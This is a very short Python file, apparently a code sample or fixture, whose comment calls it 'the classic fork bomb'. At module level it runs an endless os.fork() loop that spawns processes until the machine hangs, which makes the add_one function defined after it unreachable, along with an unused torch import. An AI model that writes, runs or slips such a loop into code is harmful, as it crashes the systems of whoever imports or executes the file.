# The classic fork bomb.
import os

import torch

while True:
    os.fork()


def add_one(x):
    return x + 1
